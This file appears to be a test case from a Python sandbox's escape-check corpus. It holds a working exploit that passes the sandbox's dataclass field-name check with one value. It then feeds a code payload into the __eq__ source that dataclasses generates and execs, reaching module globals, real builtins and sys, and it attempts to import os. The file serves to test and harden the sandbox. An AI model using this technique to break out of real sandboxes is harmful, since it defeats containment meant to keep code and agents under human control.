# technique: _guard_classes' _process_class wrapper checks the names of a base dataclass's fields (getattr(f, 'name')) and then hands the class to the real _process_class, which reads f.name again; nothing requires f to be a real dataclasses.Field: an object of the snippet's with a `name` property answers 'x' to the check and any string to the real code.  B.__dataclass_fields__ is a plain dict the snippet can write (the read of __dataclass_fields__ is allowed); _FIELD (the private sentinel _field_type must be) is read from a real Field through the self exemption (def ftype(self): return self._field_type).  The real _process_class pastes the second answer into the __eq__ source it execs from dataclasses' frame (trusted for compile/exec): '(self.NAME,)==(other.NAME,)' with NAME = 'x if G.append(fields.__globals__) else 0'.  The generated __eq__ is never seen by check_code; __globals__ raises no audit event
# source: check-then-use (TOCTOU) on a duck-typed object: 169/181/182 (dataclass field names), 177 (self exemption on a foreign object)
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses
from dataclasses import dataclass, fields


@dataclass
class B:
    x: int = 0


def ftype(self):
    return self._field_type  # private read allowed on a parameter named self


FT = ftype(fields(B)[0])
G = []
PAYLOAD = 'x if G.append(fields.' + dn('globals') + ') else 0'


class Proxy:
    _field_type = FT
    init = False
    kw_only = False
    repr = False
    compare = True
    hash = None
    default = dataclasses.MISSING
    default_factory = dataclasses.MISSING
    type = int
    metadata = {}

    def __init__(self):
        self.n = 0

    @property
    def name(self):
        self.n += 1
        return 'x' if self.n == 1 else PAYLOAD  # the check sees 'x', the exec the payload


B.__dataclass_fields__['x'] = Proxy()


try:
    @dataclass(init=False, repr=False, eq=True)
    class D(B):
        """no inspect.signature for the docstring"""

    D() == D()
except BaseException as e:
    print('BLOCKED dataclass:', type(e).__name__, str(e)[:200])

if G and check('dataclasses module globals from generated __eq__', G[0]):
    g = G[0]
    check('real builtins via dataclasses globals', g[dn('builtins')])
    check('real sys module', g['sys'])
    attempt('os through the real __import__', lambda: g[dn('builtins')][dn('import')]('os'))
else:
    print('BLOCKED nothing collected')
